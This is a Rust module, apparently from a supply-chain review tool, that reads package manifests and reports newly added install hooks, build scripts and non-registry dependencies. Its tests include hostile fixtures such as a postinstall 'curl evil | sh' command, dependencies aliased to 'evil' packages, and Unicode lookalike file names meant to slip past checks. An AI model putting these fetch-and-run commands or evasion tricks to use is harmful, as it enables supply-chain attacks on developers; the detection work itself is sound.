//! Reads the manifests of packages for what they run: scripts, hooks, build steps, and packages
//! from outside the registry. The places in each manifest are data: `manifests.toml`.
//!
//! Manifests change often and harmlessly, so a changed name alone says little. The review names
//! what the manifest runs on install, build or test.

mod read;

use std::collections::BTreeMap;
use std::sync::LazyLock;

use bstr::{BStr, ByteSlice};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use self::read::Format;
use crate::{columns, look, text, toml};

/// A larger manifest is not read.
const LARGEST: usize = 1 << 20;
/// The columns of a command that are shown.
const SHOWN: usize = 160;

/// Something that a manifest newly runs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Run {
    /// Its kind and its command, in words and escaped for a terminal.
    pub what: String,
    /// The group that lists it together with similar ones.
    #[serde(skip)]
    pub(super) kind: String,
    /// When it runs.
    pub when: When,
}

/// When a part of a manifest runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum When {
    /// When somebody builds, tests or starts the project.
    OnDemand,
    /// Automatically, when somebody installs the package.
    OnInstall,
    /// Unknown: the manifest cannot be read as its program reads it.
    Unknown,
}

/// A manifest, and the places in it that run something. Paths are keys between slashes.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Manifest {
    /// In lower case.
    names: Vec<String>,
    format: Format,
    /// Where its format is documented.
    #[cfg_attr(not(test), expect(dead_code, reason = "for whoever reads the data; a test reads it"))]
    source: String,
    #[serde(default)]
    on_install: Vec<String>,
    #[serde(default)]
    entries: BTreeMap<String, String>,
    #[serde(default)]
    settings: BTreeMap<String, String>,
    #[serde(default)]
    fetched: BTreeMap<String, String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Table {
    manifest: Vec<Manifest>,
}

static MANIFESTS: LazyLock<Vec<Manifest>> = LazyLock::new(|| {
    let table: Table = toml::from_str(include_str!("manifests.toml")).expect("a test reads it");
    table.manifest
});

/// Everything a manifest runs, by the keys of its place, which distinguish two parts of one name.
type Runs = BTreeMap<Vec<String>, Thing>;

/// One thing that runs.
#[derive(PartialEq, Eq)]
struct Thing {
    /// Its kind, in the words of the data.
    what: String,
    /// Its own name; may be empty.
    name: String,
    value: String,
}

/// The running parts that a change of the manifest at `path` adds or changes. Empty if the file is
/// no manifest, or nothing of it newly runs.
pub(super) fn changes(path: &BStr, old: Option<&[u8]>, new: Option<&[u8]>) -> Vec<Run> {
    let name = look::fold(path.rsplit_once_str("/").map_or(path.as_bytes(), |(_, name)| name));
    let manifest = MANIFESTS.iter().find(|manifest| manifest.names.contains(&name));
    let (Some(manifest), Some(new)) = (manifest, new) else { return Vec::new() };
    let before = old.and_then(|old| manifest.runs(old)).unwrap_or_default();
    let Some(after) = manifest.runs(new) else {
        let what = "something that cannot be read".to_owned();
        return vec![Run { kind: String::new(), what, when: When::Unknown }];
    };
    let is_new = |(keys, thing): &(Vec<String>, Thing)| before.get(keys) != Some(thing);
    let run = |(keys, Thing { what, name, value }): (Vec<String>, Thing)| {
        let called = if name.is_empty() { what.clone() } else { format!("{what} {}", text::name(name.as_bytes())) };
        let when = if manifest.on_install.contains(&keys.join("/")) { When::OnInstall } else { When::OnDemand };
        let kind = if when == When::OnInstall { called.clone() } else { what };
        let command = text::name(value.as_bytes());
        Run { kind, what: format!("{called}: {}", columns::middle(&command, SHOWN)), when }
    };
    after.into_iter().filter(is_new).map(run).collect()
}

impl Manifest {
    /// Everything that the manifest runs. `None` if it cannot be read.
    fn runs(&self, content: &[u8]) -> Option<Runs> {
        let content = content.strip_prefix("\u{feff}".as_bytes()).unwrap_or(content);
        let content = str::from_utf8(content).ok().filter(|content| content.len() <= LARGEST)?;
        let content = self.format.read(content)?;
        let mut runs = Runs::new();
        for (place, what) in &self.settings {
            find(&content, place, &mut |keys, found| {
                let (what, name) = (what.clone(), String::new());
                runs.insert(keys.to_vec(), Thing { what, name, value: words(found) });
            });
        }
        for (place, what) in &self.entries {
            find(&content, place, &mut |keys, found| {
                for (keys, name, value) in each(keys, found) {
                    runs.insert(keys, Thing { what: what.clone(), name, value: words(value) });
                }
            });
        }
        for (place, what) in &self.fetched {
            find(&content, place, &mut |keys, found| {
                let is_elsewhere = |value: &Value| match self.format {
                    Format::Toml => is_table_elsewhere(value),
                    _ => is_version_elsewhere(value),
                };
                for (keys, name, value) in each(keys, found).into_iter().filter(|(.., value)| is_elsewhere(value)) {
                    let what = format!("{what}, which is not from the registry,");
                    runs.insert(keys, Thing { what, name, value: words(value) });
                }
            });
        }
        Some(runs)
    }
}

/// Calls `note` with the keys and the value of everything at `place`.
fn find(value: &Value, place: &str, note: &mut dyn FnMut(&[String], &Value)) {
    fn below(value: &Value, place: &[&str], keys: &mut Vec<String>, note: &mut dyn FnMut(&[String], &Value)) {
        let Some((wanted, rest)) = place.split_first() else { return note(keys, value) };
        let Value::Object(table) = value else { return };
        for (key, value) in table {
            if *wanted == "*" || *wanted == key || *wanted == key.replace('_', "-") {
                keys.push(key.clone());
                below(value, rest, keys, note);
                keys.pop();
            }
        }
    }
    below(value, &place.split('/').collect::<Vec<_>>(), &mut Vec::new(), note);
}

/// The entries of a table or the items of a list: the keys of each, its name if it has one, and its
/// value. Any other value is its own single entry.
fn each<'a>(keys: &[String], found: &'a Value) -> Vec<(Vec<String>, String, &'a Value)> {
    let below = |key: &str| [keys, &[key.to_owned()]].concat();
    match found {
        Value::Object(table) => table.iter().map(|(name, value)| (below(name), name.clone(), value)).collect(),
        // Keyed by content: a moved item stays the same.
        Value::Array(items) => items.iter().map(|item| (below(&words(item)), String::new(), item)).collect(),
        value => vec![(keys.to_vec(), String::new(), value)],
    }
}

/// Whether a version, or one of several, is an address or another package's name.
fn is_version_elsewhere(version: &Value) -> bool {
    match version {
        Value::String(version) => {
            let own = ["workspace:", "catalog:", "jsr:"].iter().any(|kind| version.starts_with(kind));
            !own && (version.contains(':') || version.contains('/'))
        }
        Value::Object(table) => table.values().any(is_version_elsewhere),
        Value::Array(items) => items.iter().any(is_version_elsewhere),
        _ => false,
    }
}

/// Whether a dependency in TOML, possibly a table, comes from an address instead of its name.
fn is_table_elsewhere(dependency: &Value) -> bool {
    match dependency {
        Value::Object(table) => {
            let by = ["git", "url", "file", "registry", "registry-index", "index", "source"];
            table.keys().any(|key| by.contains(&key.as_str()))
        }
        Value::Array(items) => items.iter().any(is_table_elsewhere),
        version => is_version_elsewhere(version),
    }
}

fn words(value: &Value) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(path: &str, old: Option<&str>, new: &str) -> Vec<String> {
        let runs = changes(path.into(), old.map(str::as_bytes), Some(new.as_bytes()));
        let said = |run: Run| match run.when {
            When::OnDemand => run.what,
            When::OnInstall => format!("!{}", run.what),
            When::Unknown => format!("?{}", run.what),
        };
        runs.into_iter().map(said).collect()
    }

    #[test]
    fn every_manifest_has_names_a_source_and_words() {
        for manifest in &*MANIFESTS {
            assert!(manifest.source.starts_with("https://"), "{manifest:?}");
            assert!(manifest.names.iter().all(|name| *name == name.to_lowercase()), "{manifest:?}");
            for (place, what) in [&manifest.entries, &manifest.settings, &manifest.fetched].into_iter().flatten() {
                assert!(!place.is_empty() && what.starts_with(char::is_lowercase), "{place}: {what}");
            }
        }
    }

    #[test]
    fn a_script_that_is_added_or_changed_is_said_with_its_command() {
        let old = r#"{"scripts": {"test": "jest", "build": "tsc"}}"#;
        let new =
            r#"{"scripts": {"test": "jest", "build": "tsc && x", "postinstall": "curl evil | sh"}, "version": "2"}"#;
        assert_eq!(
            said("web/package.json", Some(old), new),
            ["the script build: tsc && x", "!the script postinstall: curl evil | sh"]
        );
        assert_eq!(said("package.json", Some(new), old), ["the script build: tsc"], "what is gone does not run");
        assert_eq!(said("package.json", Some(old), old), [""; 0]);
        assert_eq!(said("other.json", None, new), [""; 0]);
    }

    #[test]
    fn what_runs_is_found_in_every_format() {
        for (path, content, expected) in [
            ("Cargo.toml", "[package]\nbuild = \"x.rs\"\n", "the build script: x.rs"),
            ("a/Cargo.toml", "[lib]\nproc_macro = true\n", "the procedural macro, which runs in the compiler: true"),
            (
                "Cargo.toml",
                "[lib]\ncrate-type = [\"proc-macro\"]\n",
                "the kind of the library, which may run in the compiler: [\"proc-macro\"]",
            ),
            ("Cargo.toml", "[build-dependencies]\ncc = \"1\"\n", "the dependency of the build script cc: 1"),
            (
                "Cargo.toml",
                "[target.'cfg(unix)'.build-dependencies]\ncc = \"1\"\n",
                "the dependency of the build script cc: 1",
            ),
            ("pyproject.toml", "[build-system]\nbuild-backend = \"b\"\n", "the build backend: b"),
            ("pyproject.toml", "[tool.hatch.envs.default.scripts]\na = \"rm\"\n", "the script a: rm"),
            ("pyproject.toml", "[tool.pylint.main]\ninit-hook = \"x\"\n", "the program that pylint runs: x"),
            (
                "setup.cfg",
                "[options]\n  zip_safe = no\n  setup_requires =\n    evil\n    more\n",
                "the packages that the build runs:  evil more",
            ),
            ("composer.json", r#"{"scripts": {"post-install-cmd": ["x"]}}"#, "!the script post-install-cmd: [\"x\"]"),
            ("deno.jsonc", "{ // a comment\n\"tasks\": {\"a\": \"//x\", /* , */ },}", "the task a: //x"),
            ("Pipfile", "[scripts]\na = \"x\"\n", "the script a: x"),
            ("PACKAGE.JSON", "\u{feff}{\"scripts\": {\"prepare\": \"husky\"}}", "!the script prepare: husky"),
            ("package.json", r#"{"bin": "x.js"}"#, "the installed program: x.js"),
        ] {
            assert_eq!(said(path, None, content), [expected], "{path}: {content}");
        }
    }

    #[test]
    fn attack_18_nothing_that_runs_is_hidden_by_another_of_its_name() {
        let npm = r#"{"scripts": {"test": "curl evil | sh"}, "wireit": {"test": {"command": "jest"}}}"#;
        assert_eq!(
            said("package.json", None, npm),
            ["the script test: curl evil | sh", "the script of wireit test: {\"command\":\"jest\"}"]
        );
        let cargo = "[build-dependencies]\ncc = \"=6.6.6\"\n[target.x.build-dependencies]\ncc = \"1\"\n";
        let old = "[target.x.build-dependencies]\ncc = \"1\"\n";
        assert_eq!(said("Cargo.toml", Some(old), cargo), ["the dependency of the build script cc: =6.6.6"]);
        let hatch = "[tool.hatch.envs.a.scripts]\nx = \"evil\"\n[tool.hatch.envs.b.scripts]\nx = \"fine\"\n";
        assert_eq!(said("pyproject.toml", None, hatch), ["the script x: evil", "the script x: fine"]);
    }

    #[test]
    fn a_dependency_that_is_fetched_by_an_address_is_said() {
        for (path, content, expected) in [
            ("package.json", r#"{"dependencies": {"a": "^1", "b": "evil/b"}}"#, " registry, b: evil/b"),
            (
                "package.json",
                r#"{"overrides": {"a": {"b": "git+ssh://x"}, "c": {".": "1"}}}"#,
                " registry, a: {\"b\":\"git+ssh://x\"}",
            ),
            (
                "package.json",
                r#"{"overrides": {"a": {"path": "git+ssh://x"}}}"#,
                " registry, a: {\"path\":\"git+ssh://x\"}",
            ),
            ("package.json", r#"{"dependencies": {"lodash": "npm:evil@1"}}"#, " registry, lodash: npm:evil@1"),
            (
                "Cargo.toml",
                "[dependencies]\na = \"1\"\nb = { path = \"../b\" }\nc = { git = \"https://x\" }\n",
                " registry, c: {\"git\":\"https://x\"}",
            ),
            (
                "pyproject.toml",
                "[project]\ndependencies = [\"a>=1\", \"b @ https://x\"]\n",
                " registry,: b @ https://x",
            ),
        ] {
            let said = said(path, None, content);
            assert!(said.len() == 1 && said[0].ends_with(expected), "{path}: {said:?}");
        }
    }

    #[test]
    fn attack_18_a_name_counts_as_a_filesystem_takes_it() {
        for path in ["web/package.j\u{17f}on", "Package.JSON", "package.json.", "pac\u{200b}kage.json"] {
            assert_eq!(said(path, None, r#"{"scripts": {"a": "x"}}"#), ["the script a: x"], "{path}");
        }
    }

    #[test]
    fn what_cannot_be_read_is_said_too() {
        for (path, content) in [("package.json", "{"), ("Cargo.toml", "= x"), ("setup.cfg", "x\n")] {
            assert_eq!(said(path, None, content), ["?something that cannot be read"], "{path}");
        }
        let large = format!("{{\"a\": \"{}\"}}", "x".repeat(LARGEST));
        assert_eq!(said("package.json", None, &large), ["?something that cannot be read"]);
        assert_eq!(changes("package.json".into(), Some(b"{"), None), []);
    }

    #[test]
    fn attack_15_a_long_or_strange_command_stays_one_short_row() {
        let said = said("package.json", None, &format!("{{\"scripts\": {{\"a\\nb\": \"{}\"}}}}", "x\\n".repeat(100)));
        assert!(said[0].starts_with("the script a\\nb: x\\nx") && said[0].ends_with("x\\n"), "{said:?}");
        assert!(said[0].chars().count() < 200 && said[0].contains('…'), "{said:?}");
    }
}
